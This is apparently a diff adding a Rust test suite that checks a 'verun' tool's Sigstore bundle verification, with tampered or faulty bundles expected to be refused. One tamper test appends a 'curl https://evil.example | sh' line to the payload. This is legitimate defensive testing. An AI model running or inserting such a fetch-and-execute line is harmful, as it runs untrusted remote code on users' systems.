@@ -1,0 +1,691 @@
+//! Sigstore bundles from a private instance built at test run time
+//! (`tests/common/sigstore_instance.rs`): the happy paths verify, and every way a bundle
+//! can be wrong — expired or wrong CA, bad SCT, broken inclusion proof, checkpoint by an
+//! unknown key, signing time outside the certificate, wrong identity or issuer, DSSE
+//! subject mismatch, two DSSE signatures, a tampered payload, a missing proof, an
+//! untrusted or misdirected timestamp — is refused with exit 77 and one `verun: error:`
+//! line, with nothing run. Also `verify sha256:HEX`, a store identity over loopback HTTPS
+//! (the `<URL>.sigstore.json` sibling) and rollback of the Sigstore signing time.
+
+mod common;
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use common::sigstore_instance::*;
+use common::*;
+
+/// A sandbox, a private Sigstore instance, and an executable marker script as payload.
+struct Fixture {
+    env: TestEnv,
+    inst: Instance,
+    payload: Vec<u8>,
+    file: PathBuf,
+    marker: PathBuf,
+}
+
+impl Fixture {
+    fn new() -> Fixture {
+        let env = TestEnv::new();
+        let inst = Instance::new();
+        let (payload, marker) = marker_script(&env, "tool");
+        let file = env.write("tool.sh", &payload);
+        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
+        Fixture {
+            env,
+            inst,
+            payload,
+            file,
+            marker,
+        }
+    }
+
+    /// Writes the trusted root `work/trusted_root.json`.
+    fn root(&self, spec: &RootSpec) -> PathBuf {
+        self.inst
+            .write_trusted_root(&self.env.path("trusted_root.json"), spec)
+    }
+
+    /// Writes a bundle for the payload at `work/tool.sh.sigstore.json`.
+    fn bundle(&self, spec: &BundleSpec) -> PathBuf {
+        self.inst
+            .write_bundle(&self.env.path("tool.sh.sigstore.json"), &self.payload, spec)
+    }
+
+    /// `verun verify TARGET --bundle B --cert-identity ID --cert-oidc-issuer ISS
+    /// --trusted-root ROOT`.
+    fn verify_as(
+        &self,
+        target: &str,
+        bundle: &Path,
+        root: &Path,
+        identity: &str,
+        issuer: &str,
+    ) -> Output {
+        self.env.verun([
+            "verify",
+            target,
+            "--bundle",
+            bundle.to_str().unwrap(),
+            "--cert-identity",
+            identity,
+            "--cert-oidc-issuer",
+            issuer,
+            "--trusted-root",
+            root.to_str().unwrap(),
+        ])
+    }
+
+    /// [`verify_as`](Self::verify_as) the payload file, as the bundle's own signer.
+    fn verify(&self, bundle: &Path, root: &Path, spec: &BundleSpec) -> Output {
+        self.verify_as(
+            self.file.to_str().unwrap(),
+            bundle,
+            root,
+            spec.identity.as_str(),
+            &spec.issuer,
+        )
+    }
+
+    /// The bundle made from `spec`, verified against a root made from `root`.
+    fn check(&self, root: &RootSpec, spec: &BundleSpec) -> Output {
+        let root = self.root(root);
+        let bundle = self.bundle(spec);
+        self.verify(&bundle, &root, spec)
+    }
+}
+
+/// Exit 0, nothing run (`verify` never runs anything).
+#[track_caller]
+fn assert_verified(f: &Fixture, out: &Output) {
+    assert_exit(out, 0);
+    assert_not_ran(&f.marker);
+}
+
+/// Exit 77, exactly one `verun: error:` line and a hint, nothing run.
+#[track_caller]
+fn assert_refused(f: &Fixture, out: &Output) {
+    assert_exit(out, 77);
+    let err = stderr(out);
+    let errors = err
+        .lines()
+        .filter(|l| l.starts_with("verun: error:"))
+        .count();
+    assert_eq!(errors, 1, "want one `verun: error:` line:\n{err}");
+    assert!(
+        err.lines().any(|l| l.starts_with("verun: hint:")),
+        "no `verun: hint:` line:\n{err}"
+    );
+    assert_not_ran(&f.marker);
+}
+
+fn needs_openssl() -> bool {
+    if openssl_available() {
+        return true;
+    }
+    assert!(
+        !in_ci(),
+        "openssl is required in CI (RFC 3161 tokens come from `openssl ts`)"
+    );
+    eprintln!("SKIPPED: openssl not found (the TSA's tokens come from `openssl ts -reply`)");
+    false
+}
+
+// --- the fixture is right -----------------------------------------------------------------
+
+#[test]
+fn happy_path_message_signature_bundle_verifies() {
+    let f = Fixture::new();
+    let out = f.check(&RootSpec::public_good(), &BundleSpec::new());
+    assert_verified(&f, &out);
+}
+
+#[test]
+fn happy_path_dsse_attestation_from_github_actions_verifies() {
+    let f = Fixture::new();
+    let spec = BundleSpec::new().github("verun-test/tool").dsse();
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_verified(&f, &out);
+}
+
+#[test]
+fn happy_path_bundle_with_a_trusted_timestamp_verifies() {
+    if !needs_openssl() {
+        return;
+    }
+    let f = Fixture::new();
+    let mut root = RootSpec::public_good();
+    root.tsas = true;
+    let mut spec = BundleSpec::new();
+    spec.tsa = TsaToken::Trusted;
+    // The timestamp is taken now: the certificate must be valid now too.
+    spec.cert_not_after = now() + 300;
+    let out = f.check(&root, &spec);
+    assert_verified(&f, &out);
+}
+
+#[test]
+fn fixture_bundles_have_the_shape_of_real_cosign_and_dsse_bundles() {
+    let vectors = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/vectors/sigstore/cases");
+    if !vectors.is_dir() {
+        eprintln!("SKIPPED: ../shared/vectors is absent");
+        return;
+    }
+    let inst = Instance::new();
+    let keys = |v: &serde_json::Value| -> Vec<String> {
+        let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
+        k.sort();
+        k
+    };
+    for (real, spec) in [
+        (
+            "cosign-v3-blob/cosign-v3-blob.sigstore.json",
+            BundleSpec::new(),
+        ),
+        (
+            "conda-dsse/conda-attestation.sigstore.json",
+            BundleSpec::new().github("verun-test/tool").dsse(),
+        ),
+    ] {
+        let real: serde_json::Value =
+            serde_json::from_slice(&fs::read(vectors.join(real)).unwrap()).unwrap();
+        let mut spec = spec;
+        spec.tsa = real["verificationMaterial"]["timestampVerificationData"]
+            .get("rfc3161Timestamps")
+            .map_or(TsaToken::None, |_| TsaToken::Trusted);
+        if spec.tsa == TsaToken::Trusted && !needs_openssl() {
+            continue;
+        }
+        let ours: serde_json::Value =
+            serde_json::from_str(&inst.bundle(b"payload", &spec)).unwrap();
+        assert_eq!(ours["mediaType"], real["mediaType"]);
+        for path in [
+            "",
+            "/verificationMaterial",
+            "/verificationMaterial/tlogEntries/0",
+            "/verificationMaterial/tlogEntries/0/inclusionProof",
+            "/verificationMaterial/tlogEntries/0/kindVersion",
+            "/verificationMaterial/timestampVerificationData",
+        ] {
+            assert_eq!(
+                keys(ours.pointer(path).unwrap()),
+                keys(real.pointer(path).unwrap()),
+                "keys at {path:?}"
+            );
+        }
+        let body = |v: &serde_json::Value| -> serde_json::Value {
+            use base64::Engine as _;
+            let b64 = v["verificationMaterial"]["tlogEntries"][0]["canonicalizedBody"]
+                .as_str()
+                .unwrap();
+            let raw = base64::engine::general_purpose::STANDARD
+                .decode(b64)
+                .unwrap();
+            serde_json::from_slice(&raw).unwrap()
+        };
+        let (ours_body, real_body) = (body(&ours), body(&real));
+        assert_eq!(ours_body["kind"], real_body["kind"]);
+        assert_eq!(ours_body["apiVersion"], real_body["apiVersion"]);
+        assert_eq!(keys(&ours_body["spec"]), keys(&real_body["spec"]));
+        let checkpoint = ours
+            .pointer("/verificationMaterial/tlogEntries/0/inclusionProof/checkpoint/envelope")
+            .unwrap()
+            .as_str()
+            .unwrap();
+        assert!(checkpoint.contains("\n\n\u{2014} "), "{checkpoint:?}");
+    }
+}
+
+/// RFC 9162 §2.1.3.2: the root an inclusion proof leads to (a second, iterative algorithm
+/// for the fixture's recursive RFC 6962 PATH).
+fn root_from_proof(index: u64, size: u64, leaf: [u8; 32], proof: &[[u8; 32]]) -> [u8; 32] {
+    use sha2::Digest as _;
+    let node = |l: &[u8; 32], r: &[u8; 32]| -> [u8; 32] {
+        let mut h = sha2::Sha256::new();
+        h.update([1u8]);
+        h.update(l);
+        h.update(r);
+        h.finalize().into()
+    };
+    let (mut fn_, mut sn, mut r) = (index, size - 1, leaf);
+    for p in proof {
+        assert!(sn != 0, "proof too long");
+        if fn_ & 1 == 1 || fn_ == sn {
+            r = node(p, &r);
+            if fn_ & 1 == 0 {
+                while fn_ & 1 == 0 && fn_ != 0 {
+                    fn_ >>= 1;
+                    sn >>= 1;
+                }
+            }
+        } else {
+            r = node(&r, p);
+        }
+        fn_ >>= 1;
+        sn >>= 1;
+    }
+    assert_eq!(sn, 0, "proof too short");
+    r
+}
+
+#[test]
+fn fixture_inclusion_proofs_check_out_by_the_rfc_9162_algorithm() {
+    for size in 1..=17usize {
+        let leaves: Vec<[u8; 32]> = (0..size)
+            .map(|i| leaf_hash(format!("leaf {i}").as_bytes()))
+            .collect();
+        let root = merkle_root(&leaves);
+        for (i, leaf) in leaves.iter().enumerate() {
+            let path = inclusion_path(i, &leaves);
+            assert_eq!(
+                root_from_proof(i as u64, size as u64, *leaf, &path),
+                root,
+                "leaf {i} of {size}"
+            );
+        }
+    }
+}
+
+#[test]
+fn fixture_timestamps_verify_with_openssl_ts() {
+    if !needs_openssl() {
+        return;
+    }
+    let inst = Instance::new();
+    let signature = b"a signature";
+    let reply = inst.dir().join("check.tsr");
+    fs::write(&reply, inst.trusted_timestamp(signature)).unwrap();
+    let (root, leaf) = inst.tsa_pem_files();
+    let verify = |data: &[u8]| {
+        let digest = sha256_hex(data);
+        std::process::Command::new("openssl")
+            .args(["ts", "-verify", "-digest", &digest, "-in"])
+            .arg(&reply)
+            .arg("-CAfile")
+            .arg(&root)
+            .arg("-untrusted")
+            .arg(&leaf)
+            .output()
+            .unwrap()
+    };
+    let ok = verify(signature);
+    assert!(
+        ok.status.success(),
+        "{}",
+        String::from_utf8_lossy(&ok.stderr)
+    );
+    assert!(!verify(b"another signature").status.success());
+}
+
+// --- certificate authority ----------------------------------------------------------------
+
+#[test]
+fn ca_whose_validity_ended_before_the_signing_time_is_refused() {
+    let f = Fixture::new();
+    let mut root = RootSpec::public_good();
+    root.ca_valid_until = Some(now() - 86_400);
+    let out = f.check(&root, &BundleSpec::new());
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn leaf_issued_by_a_ca_not_in_the_root_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.rogue_ca = true;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+// --- certificate transparency -------------------------------------------------------------
+
+#[test]
+fn sct_with_a_flipped_signature_byte_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.sct = SctFault::FlippedSignature;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn sct_from_a_log_not_in_the_root_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.sct = SctFault::UnknownLog;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn certificate_without_sct_is_refused_when_the_root_has_ct_logs() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.sct = SctFault::Absent;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+// --- transparency log ---------------------------------------------------------------------
+
+#[test]
+fn inclusion_proof_with_a_flipped_hash_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.proof = ProofFault::FlippedHash;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn checkpoint_signed_by_a_key_not_in_the_root_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.checkpoint_by_rogue_key = true;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn v01_bundle_with_a_signed_entry_timestamp_and_no_proof_verifies() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.version = BundleVersion::V01;
+    spec.proof = ProofFault::Absent;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_verified(&f, &out);
+}
+
+#[test]
+fn v03_bundle_without_inclusion_proof_is_refused_when_the_root_has_tlogs() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    spec.proof = ProofFault::Absent;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn integrated_time_after_the_certificate_expired_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new();
+    // Logged now, with a certificate that expired 50 minutes ago.
+    spec.cert_not_before = now() - 3600;
+    spec.cert_not_after = now() - 3000;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+// --- identity -----------------------------------------------------------------------------
+
+#[test]
+fn wrong_identity_is_refused() {
+    let f = Fixture::new();
+    let spec = BundleSpec::new();
+    let root = f.root(&RootSpec::public_good());
+    let bundle = f.bundle(&spec);
+    let out = f.verify_as(
+        f.file.to_str().unwrap(),
+        &bundle,
+        &root,
+        "someone-else@verun.test",
+        &spec.issuer,
+    );
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn wrong_issuer_is_refused() {
+    let f = Fixture::new();
+    let spec = BundleSpec::new();
+    let root = f.root(&RootSpec::public_good());
+    let bundle = f.bundle(&spec);
+    let out = f.verify_as(
+        f.file.to_str().unwrap(),
+        &bundle,
+        &root,
+        spec.identity.as_str(),
+        "https://accounts.google.com",
+    );
+    assert_refused(&f, &out);
+}
+
+// --- what is signed -----------------------------------------------------------------------
+
+#[test]
+fn dsse_statement_naming_another_digest_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
+    spec.dsse.as_mut().unwrap().subject_sha256 = Some(sha256_hex(b"some other artifact"));
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn dsse_envelope_with_two_signatures_is_refused() {
+    let f = Fixture::new();
+    let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
+    spec.dsse.as_mut().unwrap().two_signatures = true;
+    let out = f.check(&RootSpec::public_good(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn tampered_payload_is_refused() {
+    let f = Fixture::new();
+    let spec = BundleSpec::new();
+    let root = f.root(&RootSpec::public_good());
+    let bundle = f.bundle(&spec);
+    let mut tampered = f.payload.clone();
+    tampered.extend_from_slice(b"curl https://evil.example | sh\n");
+    fs::write(&f.file, &tampered).unwrap();
+    let out = f.verify(&bundle, &root, &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn tampered_payload_is_refused_for_a_dsse_attestation() {
+    let f = Fixture::new();
+    let spec = BundleSpec::new().github("verun-test/tool").dsse();
+    let root = f.root(&RootSpec::public_good());
+    let bundle = f.bundle(&spec);
+    let mut tampered = f.payload.clone();
+    tampered[0] ^= 0x01;
+    fs::write(&f.file, &tampered).unwrap();
+    let out = f.verify(&bundle, &root, &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn digest_form_sha256_hex_verifies_and_another_digest_is_refused() {
+    let f = Fixture::new();
+    let spec = BundleSpec::new();
+    let root = f.root(&RootSpec::public_good());
+    let bundle = f.bundle(&spec);
+    let digest = format!("sha256:{}", sha256_hex(&f.payload));
+    let out = f.verify_as(
+        &digest,
+        &bundle,
+        &root,
+        spec.identity.as_str(),
+        &spec.issuer,
+    );
+    assert_verified(&f, &out);
+
+    let other = format!("sha256:{}", sha256_hex(b"another payload"));
+    let out = f.verify_as(&other, &bundle, &root, spec.identity.as_str(), &spec.issuer);
+    assert_refused(&f, &out);
+}
+
+// --- timestamp authority only (GitHub's root for private repositories) --------------------
+
+#[test]
+fn tsa_only_root_accepts_a_bundle_with_a_valid_timestamp() {
+    if !needs_openssl() {
+        return;
+    }
+    let f = Fixture::new();
+    let spec = BundleSpec::new()
+        .github("verun-test/private-tool")
+        .dsse()
+        .tsa_only(TsaToken::Trusted);
+    let out = f.check(&RootSpec::tsa_only(), &spec);
+    assert_verified(&f, &out);
+}
+
+#[test]
+fn tsa_only_root_refuses_a_timestamp_from_an_untrusted_tsa() {
+    if !needs_openssl() {
+        return;
+    }
+    let f = Fixture::new();
+    let spec = BundleSpec::new()
+        .github("verun-test/private-tool")
+        .dsse()
+        .tsa_only(TsaToken::Untrusted);
+    let out = f.check(&RootSpec::tsa_only(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn tsa_only_root_refuses_a_timestamp_over_another_signature() {
+    if !needs_openssl() {
+        return;
+    }
+    let f = Fixture::new();
+    let spec = BundleSpec::new()
+        .github("verun-test/private-tool")
+        .dsse()
+        .tsa_only(TsaToken::OverOtherSignature);
+    let out = f.check(&RootSpec::tsa_only(), &spec);
+    assert_refused(&f, &out);
+}
+
+#[test]
+fn tsa_only_root_refuses_a_bundle_without_timestamp() {
+    let f = Fixture::new();
+    let spec = BundleSpec::new()
+        .github("verun-test/private-tool")
+        .dsse()
+        .tsa_only(TsaToken::None);
+    let out = f.check(&RootSpec::tsa_only(), &spec);
+    assert_refused(&f, &out);
+}
+
+// --- over HTTPS, with a store identity ----------------------------------------------------
+
+/// A sandbox and an HTTPS server with a store identity for it; the trusted root written.
+struct Site {
+    f: Fixture,
+    server: TestServer,
+    cacert: Vec<String>,
+    root: PathBuf,
+    url: String,
+}
+
+impl Site {
+    fn new(spec: &BundleSpec) -> Site {
+        let f = Fixture::new();
+        let server = TestServer::https();
+        let cacert = args(&["--cacert", server.ca_pem_path().to_str().unwrap()]);
+        let root = f.root(&RootSpec::public_good());
+        let scope = format!("{}/", server.base_url_ip());
+        let out = f.env.verun([
+            "key",
+            "add",
+            "releaser",
+            "--cert-identity",
+            spec.identity.as_str(),
+            "--cert-oidc-issuer",
+            &spec.issuer,
+            "--scope",
+            &scope,
+        ]);
+        assert_exit(&out, 0);
+        server.route("/dl/tool.sh", Reply::bytes(&f.payload));
+        let url = format!("{}/dl/tool.sh", server.base_url_ip());
+        Site {
+            f,
+            server,
+            cacert,
+            root,
+            url,
+        }
+    }
+
+    /// Serves a bundle made from `spec` at `<URL>.sigstore.json`.
+    fn serve_bundle(&self, spec: &BundleSpec) {
+        let bundle = self.f.inst.bundle(&self.f.payload, spec);
+        self.server
+            .route("/dl/tool.sh.sigstore.json", Reply::bytes(bundle));
+    }
+
+    fn verun(&self, verb: &str, extra: &[&str]) -> Output {
+        let mut argv = vec![verb.to_string(), self.url.clone()];
+        argv.extend(args(&["--trusted-root", self.root.to_str().unwrap()]));
+        argv.extend(self.cacert.iter().cloned());
+        argv.extend(args(extra));
+        self.f.env.verun(argv)
+    }
+}
+
+#[test]
+fn fetch_and_run_over_https_verify_the_sibling_bundle_under_a_store_identity() {
+    let spec = BundleSpec::new();
+    let site = Site::new(&spec);
+    site.serve_bundle(&spec);
+
+    let dest = site.f.env.path("out/tool.sh");
+    fs::create_dir_all(dest.parent().unwrap()).unwrap();
+    let out = site.verun("fetch", &["-o", dest.to_str().unwrap()]);
+    assert_exit(&out, 0);
+    assert_eq!(fs::read(&dest).unwrap(), site.f.payload);
+    assert!(site.server.hits("/dl/tool.sh.sigstore.json") >= 1);
+
+    let out = site.verun("run", &[]);
+    assert_exit(&out, 0);
+    assert_ran(&site.f.marker);
+}
+
+#[test]
+fn fetch_refuses_a_sibling_bundle_by_another_identity_than_the_store_holds() {
+    let spec = BundleSpec::new();
+    let site = Site::new(&spec);
+    let mut other = BundleSpec::new();
+    other.identity = San::Email("mallory@verun.test".into());
+    site.serve_bundle(&other);
+
+    let dest = site.f.env.path("out/tool.sh");
+    fs::create_dir_all(dest.parent().unwrap()).unwrap();
+    let out = site.verun("fetch", &["-o", dest.to_str().unwrap()]);
+    assert_refused(&site.f, &out);
+    assert_no_file(&dest);
+}
+
+#[test]
+fn older_sigstore_signing_time_after_a_newer_one_is_refused_unless_allow_downgrade() {
+    let t2 = now() - 120;
+    let t1 = t2 - 3600;
+    let newer = BundleSpec::signed_at(t2);
+    let older = BundleSpec::signed_at(t1);
+    let site = Site::new(&newer);
+    let dest = site.f.env.path("out/tool.sh");
+    fs::create_dir_all(dest.parent().unwrap()).unwrap();
+    let dest_arg = dest.to_str().unwrap().to_string();
+
+    site.serve_bundle(&newer);
+    let out = site.verun("fetch", &["-o", &dest_arg]);
+    assert_exit(&out, 0);
+    fs::remove_file(&dest).unwrap();
+
+    site.serve_bundle(&older);
+    let out = site.verun("fetch", &["-o", &dest_arg]);
+    assert_refused(&site.f, &out);
+    assert_no_file(&dest);
+
+    let out = site.verun("fetch", &["-o", &dest_arg, "--allow-downgrade"]);
+    assert_exit(&out, 0);
+    assert_eq!(fs::read(&dest).unwrap(), site.f.payload);
+}
